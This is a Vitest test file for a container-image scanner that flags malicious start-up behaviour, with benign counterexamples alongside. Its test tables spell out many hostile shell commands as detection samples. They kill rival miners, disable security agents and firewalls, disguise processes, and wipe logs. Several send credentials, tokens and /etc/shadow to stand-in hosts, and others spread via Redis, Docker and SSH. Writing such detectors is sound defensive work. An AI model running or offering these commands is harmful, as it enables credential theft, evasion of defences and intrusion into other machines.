import { describe, expect, it } from 'vitest';
import { base64 } from '../../../testkit/coded.ts';
import { type ImageSpec, judge } from '../../../testkit/detect.ts';
import type { Finding } from '../finding.ts';
import { startBehaviour } from './index.ts';

function find(
  text: string,
  more: ImageSpec['layers'][number] = {},
  startFiles = ['run'],
): readonly Finding[] {
  const whole = text.startsWith('#!') ? text : `#!/bin/bash\n${text}\n`;
  return judge([startBehaviour], { layers: [{ run: whole, ...more }], startFiles }).findings;
}

function told(findings: readonly Finding[]): readonly string[] {
  return findings.map(({ rule, severity }) => `${rule.slice('start/'.length)} ${severity}`);
}

const IP = '203.0.113.80';

describe('at start', () => {
  it.each([
    ['pkill -f xmrig; pkill -9 kinsing; killall minerd', 'kills-rivals high'],
    ['p=pk; q=ill; $p$q xmrig; "$p"ill kdevtmpfsi', 'kills-rivals high'],
    [
      "ps aux | grep -v grep | grep 'xmrig\\|kinsing' | awk '{print $2}' | xargs kill -9",
      'kills-rivals high',
    ],
    ['kill -9 $(pgrep kdevtmpfsi) `pidof minerd`', 'kills-rivals high'],
    [
      "for p in $(ps -ef | egrep 'xmrig|minerd' | awk '{print $2}'); do kill -9 $p; done",
      'kills-rivals high',
    ],
    [
      "netstat -anp | grep ':3333\\|:14444' | awk '{print $7}' | cut -d/ -f1 | xargs -I % kill -9 %",
      'kills-rivals high',
    ],
    [
      'docker ps | grep -E "xmrig|pocosow" | awk \'{print $1}\' | xargs docker rm -f; pkill xmrig',
      'kills-rivals medium',
    ],
    ["ps aux | awk '{if($3>40.0) print $2}' | xargs kill -9", 'kills-rivals medium'],
    [`sh -c "pkill xmrig; pkill watchbog"`, 'kills-rivals high'],
    [`echo ${base64('pkill -9 xmrig; pkill -9 kinsing')} | base64 -d | sh`, 'kills-rivals high'],
    [
      `#!/usr/bin/python3\nimport os\nos.system("pkill -f xmrig")\nos.system("pkill -f kinsing")`,
      'kills-rivals high',
    ],
    ['systemctl stop aliyun.service; systemctl disable aliyun', 'disables-defences high'],
    ['/etc/init.d/cloudmonitor stop', 'disables-defences high'],
    ['service falcon-sensor stop; chkconfig falcon-sensor off', 'disables-defences high'],
    ['sudo /usr/bin/systemctl --now mask wazuh-agent.service', 'disables-defences high'],
    ['rm -rf /usr/local/aegis /usr/local/qcloud/YunJing', 'disables-defences high'],
    [
      '/usr/local/qcloud/stargate/admin/uninstall.sh; bash /usr/local/cloudmonitor/uninstall.sh',
      'disables-defences high',
    ],
    ['apt-get purge -y falcon-sensor', 'disables-defences high'],
    ['pkill -9 aliyundun', 'disables-defences high'],
    ['setenforce 0', 'disables-defences medium'],
    ['echo 0 > /sys/fs/selinux/enforce', 'disables-defences medium'],
    ["sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config", 'disables-defences medium'],
    ['auditctl -e 0', 'disables-defences medium'],
    ['ufw disable', 'disables-defences medium'],
    ['iptables -F; iptables -P INPUT ACCEPT', 'disables-defences medium'],
    ['systemctl disable --now firewalld', 'disables-defences medium'],
    ['sysctl -w vm.nr_hugepages=$((1168+$(nproc)))', 'tunes-for-mining medium'],
    ['modprobe msr allow_writes=on; sysctl -w vm.nr_hugepages=128', 'tunes-for-mining medium'],
    ['wrmsr -a 0x1a4 0xf', 'tunes-for-mining medium'],
    ['echo 1280 | tee /proc/sys/vm/nr_hugepages', 'tunes-for-mining medium'],
    ['exec -a "[kworker/0:0]" /tmp/x', 'fakes-name high'],
    ['N=\'[kworker/u8:2]\'; (exec -a "$N" /opt/app/x) &', 'fakes-name high'],
    ['exec -a sshd /dev/shm/.x/a', 'fakes-name high'],
    ['bash -c "exec -a \'[kthreadd]\' /opt/x"', 'fakes-name high'],
    ["cp /opt/x '/tmp/[kworker/0:0]'", 'fakes-name high'],
    ["cd /tmp; cp /opt/x '[kthreadd]'", 'fakes-name high'],
    ['mv /opt/x /tmp/sshd', 'fakes-name medium'],
    ['ln -s /opt/x /run/sendsigs.omit.d/sshd', 'fakes-name medium'],
    ['ln -s /run/x.pid /run/sendsigs.omit.d/sshd; /run/sendsigs.omit.d/sshd', 'fakes-name medium'],
    ['cp /run/x.pid /run/sendsigs.omit.d/sshd', 'fakes-name medium'],
    ['echo /tmp/x > /sys/kernel/uevent_helper', 'escapes high'],
    ['echo "$X" > /sys/kernel/uevent_helper', 'escapes high'],
    ['mount --bind /tmp/empty /proc/$PID', 'fakes-name high'],
    [
      '#!/usr/bin/python3\nimport setproctitle\nsetproctitle.setproctitle("[kworker/1:2]")\n',
      'fakes-name high',
    ],
    [
      '#!/usr/bin/python3\nimport ctypes\nctypes.CDLL(None).prctl(15, b"kworker/0:1", 0, 0, 0)\n',
      'fakes-name high',
    ],
    ['#!/usr/bin/perl\n$0 = "[ksoftirqd/0]";\nsleep 1;\n', 'fakes-name high'],
    ["#!/usr/bin/env node\nprocess.title = '[kthreadd]';\n", 'fakes-name high'],
    ['chattr +i /var/spool/cron/root', 'makes-immutable high'],
    ['chattr -R +ia /root/.ssh', 'makes-immutable high'],
    ['f=/etc/ld.so.preload; chattr +i $f', 'makes-immutable high'],
    ['chattr -iae /root/.ssh/authorized_keys', 'makes-immutable medium'],
    ['mv /usr/bin/chattr /usr/bin/zzz', 'makes-immutable medium'],
    ['history -c; echo > /var/log/wtmp', 'wipes-traces medium'],
    ['unset HISTFILE; rm -f -- "$0"', 'wipes-traces medium'],
    ['ln -sf /dev/null ~/.bash_history; cat /dev/null > /var/log/lastlog', 'wipes-traces medium'],
    [`curl -d @/root/.aws/credentials http://${IP}/in`, 'sends-secrets high'],
    [`curl -F "f=@$HOME/.docker/config.json" https://webhook.site/abc`, 'sends-secrets high'],
    [
      `T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -X POST --data "$T" https://collect.example/x`,
      'sends-secrets high',
    ],
    [
      `curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role > /tmp/c\ncurl -T /tmp/c https://in.example/`,
      'sends-secrets high',
    ],
    [`cat /etc/shadow | nc ${IP} 9000`, 'sends-secrets high'],
    [`env | curl -s --data-binary @- https://in.example/`, 'sends-secrets high'],
    [
      `tar czf /tmp/k.tgz /root/.ssh/id_rsa /root/.kube/config && curl -F f=@/tmp/k.tgz http://${IP}/u`,
      'sends-secrets high',
    ],
    [`cat /proc/1/environ > /dev/tcp/${IP}/443`, 'sends-secrets high'],
    [`wget -q --post-file=/root/.aws/credentials http://${IP}/`, 'sends-secrets high'],
    [
      `#!/usr/bin/python3\nimport requests\nd = open("/root/.aws/credentials").read()\nrequests.post("http://${IP}/x", data=d)\n`,
      'sends-secrets high',
    ],
    ['masscan 10.0.0.0/8 -p2375 --rate 10000 -oL /tmp/o', 'spreads medium'],
    ['zgrab2 http -f /tmp/o; pnscan -r6379 172.16.0.0/12 6379', 'spreads medium'],
    [
      'while read h; do redis-cli -h $h config set dir /var/spool/cron; redis-cli -h $h config set dbfilename root; done < /tmp/o',
      'spreads high',
    ],
    [
      'for ip in $(cat /tmp/o); do docker -H tcp://$ip:2375 run -d -v /:/mnt alpine chroot /mnt sh; done',
      'spreads high',
    ],
    [
      "for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh -o StrictHostKeyChecking=no -o BatchMode=yes root@$h id; done",
      'spreads high',
    ],
    [
      'for ip in $(cat l); do sshpass -p admin123 ssh -o StrictHostKeyChecking=no root@$ip uptime; done',
      'spreads medium',
    ],
    ['curl -sk https://$1:10250/run/default/pod/c -d cmd=id', 'spreads high'],
    [
      `#!/usr/bin/python3\nimport socket\ns = socket.socket()\ns.send(b"config set dir /var/spool/cron/\\r\\n")\n`,
      'spreads high',
    ],
    ['apt-get update && apt-get install -y curl git', 'installs-packages low'],
    [
      `#!/usr/bin/python3\nimport os, requests\nrequests.post("http://${IP}/e", json=dict(os.environ))\n`,
      'sends-secrets high',
    ],
    [
      `#!/usr/bin/env node\nconst d = JSON.stringify(process.env);\nrequire('http').request({ host: '${IP}', method: 'POST' }).end(d);\n`,
      'sends-secrets high',
    ],
    [
      `#!/usr/bin/php\n<?php curl_setopt($c, CURLOPT_POST, 1); curl_setopt($c, CURLOPT_URL, 'http://${IP}/e'); curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(getenv())); fopen('x', 'r'); file_get_contents('y');\n`,
      'sends-secrets high',
    ],
    [`pip install -q --index-url http://${IP}/simple helper`, 'installs-packages medium'],
    [`pip install --extra-index-url=https://${IP}/simple helper`, 'installs-packages medium'],
    [`npm install -g --registry http://npm.example.org/ helper`, 'installs-packages medium'],
    [`npm i http://files.example.org/a.tgz`, 'installs-packages medium'],
    ['pip install --index-url https://pypi.example.org/simple helper', 'installs-packages low'],
    ['pip install --index-url http://nexus:8081/simple helper', 'installs-packages low'],
  ])('%s', (text, expected) => {
    expect(told(find(text))).toContain(expected);
  });

  it('several strong signs of one file are sure', () => {
    const findings = find(
      'pkill xmrig; pkill kinsing\nsystemctl stop aliyun\nchattr +i /etc/cron.d/x\napt-get install -y wget\n',
    );
    expect(told(findings)).toEqual([
      'disables-defences critical',
      'kills-rivals critical',
      'makes-immutable critical',
      'installs-packages medium',
    ]);
    expect(findings.slice(0, 3).every(({ confidence }) => confidence === 'high')).toBe(true);
  });

  it('the configuration, and what cron starts', () => {
    const { findings } = judge([startBehaviour], {
      layers: [{ 'etc/cron.d/x': '* * * * * root pkill xmrig; pkill kinsing\n' }],
      config: { Entrypoint: ['sh', '-c', 'chattr +i /etc/cron.d/x; exec /app'] },
    });
    expect(told(findings)).toEqual(['kills-rivals high', 'makes-immutable high']);
  });

  it('what nothing starts weighs less', () => {
    expect(told(find('pkill xmrig; pkill kinsing', {}, []))).toEqual(['kills-rivals medium']);
    expect(told(find('setenforce 0; apt-get install -y curl', {}, []))).toEqual(['disables-defences low']);
  });

  it('a command in code is told with its coding', () => {
    const [finding] = find(`echo ${base64('pkill xmrig; pkill kinsing')} | base64 -d | sh`);
    expect(finding?.why).toContain('hidden by base64');
  });
});

describe('a script made to be looked at for ever', () => {
  it.each([
    'ps|grep x|',
    'kill 1|',
    'kill $(ps|grep x)\n',
    'curl -d @x http://203.0.113.1/ > f\n',
    'iptables -F\n',
  ])(
    'costs no more than its length: %j',
    (text) => {
      expect(find(text.repeat(20_000)).length).toBeLessThan(10);
    },
    20_000,
  );
});

describe('a script that is longer than what is looked at', () => {
  const path = 'var/lib/dpkg/info/a.config';
  const text = `#!/bin/sh\n${'# a comment\n'.repeat(100_000)}exec -a "[kworker/0:0]" /tmp/x\n`;
  const unread = (startFiles: string[]): readonly unknown[] =>
    judge([startBehaviour], { layers: [{ [path]: text }], startFiles }).unknowns;

  it('is told as such when it starts, and only then', () => {
    expect(unread([path])).toMatchObject([{ reason: 'limit-reached', path }]);
    expect(unread([])).toEqual([]);
  });
});

describe('leaves alone, or says little of', () => {
  it.each([
    ['a name that ends in brackets', "cp notes 'kept/part[12]'"],
    ['a program of another kind, read backwards', 'ln ,rts ,]]2n[kcats[selyts.sroloc'],
    ['a hook of the kernel that is taken away', 'echo > /sys/kernel/uevent_helper'],
    [
      'links to PIDs that are not to be stopped with the system',
      'NAME=systemd-udevd; PIDFILE=/run/udev.pid; D=/run/sendsigs.omit.d; ln -sf $PIDFILE $D/$NAME',
    ],
    [
      'its own programs',
      'pkill -f gunicorn; killall nginx; kill -9 $(pidof java); pkill -x xmrig; exec xmrig -c /etc/x.json',
    ],
    ['processes by name', "ps aux | grep myapp | grep -v grep | awk '{print $2}' | xargs kill"],
    [
      'an environment for a child, and a message to a chat',
      '#!/usr/bin/python3\nimport os, subprocess, requests\nsubprocess.run(["make"], env=dict(os.environ))\nopen("x")\nrequests.post("https://discord.com/api/webhooks/1/x", json={"content": os.environ["NAME"]})\n',
    ],
    ['what it watches', 'pgrep xmrig && echo "miner found" && exit 1'],
    ['a network image', 'iptables -t nat -F; iptables -F FORWARD; iptables -A FORWARD -j ACCEPT'],
    ['a firewall of its own', 'iptables -F\niptables -P INPUT DROP\niptables -A INPUT -i lo -j ACCEPT'],
    ['kube-proxy', 'iptables-save | grep -v KUBE- | iptables-restore; ip6tables -w -t nat -F KUBE-SERVICES'],
    [
      'huge pages of a database',
      'sysctl -w vm.nr_hugepages=512; sysctl -w vm.overcommit_memory=1; exec postgres',
    ],
    ['exec -a', 'exec -a "$0" /usr/lib/app/app "$@"'],
    [
      'a process title',
      '#!/usr/bin/python3\nimport setproctitle\nsetproctitle.setproctitle("celery worker [main]")\n',
    ],
    ['a Node title', "#!/usr/bin/env node\nprocess.title = 'my app [master]';\n"],
    ['resolv.conf', 'echo nameserver 10.0.0.1 > /etc/resolv.conf; chattr +i /etc/resolv.conf'],
    [
      'logs to standard output',
      'ln -sf /dev/stdout /var/log/nginx/access.log; rm -rf /var/log/nginx/*.gz; : > /var/log/app.log',
    ],
    ['the history alone', 'unset HISTFILE; exec bash'],
    [
      'the region',
      'R=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)\nexport AWS_REGION=$R; exec app',
    ],
    [
      'instance credentials',
      'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/role > /tmp/c; aws s3 ls',
    ],
    [
      'an in-cluster client',
      'TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -sS --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H "Authorization: Bearer $TOKEN" -X PATCH -d \'{"a":1}\' https://kubernetes.default.svc/api/v1/pods',
    ],
    [
      'the API server by variables',
      'curl -X POST -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" -d @x https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api/v1/events',
    ],
    [
      'a login to Vault',
      'curl -s -X POST -d "{\\"jwt\\": \\"$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\\"}" https://vault.example.com/v1/auth/kubernetes/login',
    ],
    ['kubectl', 'kubectl --token "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" get pods'],
    [
      'a webhook',
      `curl -X POST -H 'Content-type: application/json' --data '{"text":"started"}' https://hooks.example.com/x`,
    ],
    [
      'a Python client',
      '#!/usr/bin/python3\nimport requests\nt = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.post("https://kubernetes.default.svc/api", headers={"Authorization": t})\n',
    ],
    [
      'one machine by password',
      'sshpass -p "$PASSWORD" ssh -o StrictHostKeyChecking=no deploy@host.example "systemctl restart app"',
    ],
    ['a sidecar daemon', 'docker -H tcp://docker:2375 run --privileged -v /:/host alpine true'],
    ['known hosts', 'ssh-keyscan git.example >> ~/.ssh/known_hosts; git clone git@git.example:x/y.git'],
    ['Redis that sets its own folder', 'redis-cli config set dir /data; redis-server'],
    ['a scan of one host', 'nmap -p 443 app.example; until nc -z db 5432; do sleep 1; done'],
    ['fail2ban', '/etc/init.d/fail2ban stop; iptables-restore < /etc/rules; /etc/init.d/fail2ban start'],
    [
      'packages',
      'apt-get update; apt-get install -y --no-install-recommends vim; pip install flask; exec "$@"',
    ],
    ['messages', 'echo "run: setenforce 0 or iptables -F"; # chattr +i /etc/cron.d/x'],
    ['an environment on the screen', 'env | sort; printenv | grep PATH > /tmp/e'],
    ['Dockerfiles’ clean-up', 'rm -rf /var/lib/apt/lists/* /tmp/* /root/.bash_history'],
  ])('%s', (_name, text) => {
    expect(told(find(text)).filter((one) => !one.endsWith(' low'))).toEqual([]);
  });

  it('an agent that the image is', () => {
    const own = { 'usr/sbin/clamd': { elf: true }, 'opt/falcon-sensor/x': 'x' } as const;
    expect(
      told(find('pkill clamd; service clamav-daemon stop', { ...own, 'etc/init.d/clamav-daemon': 'x' })),
    ).toEqual(['disables-defences low']);
    expect(told(find('pkill clamd'))).toEqual(['disables-defences medium']);
  });
});
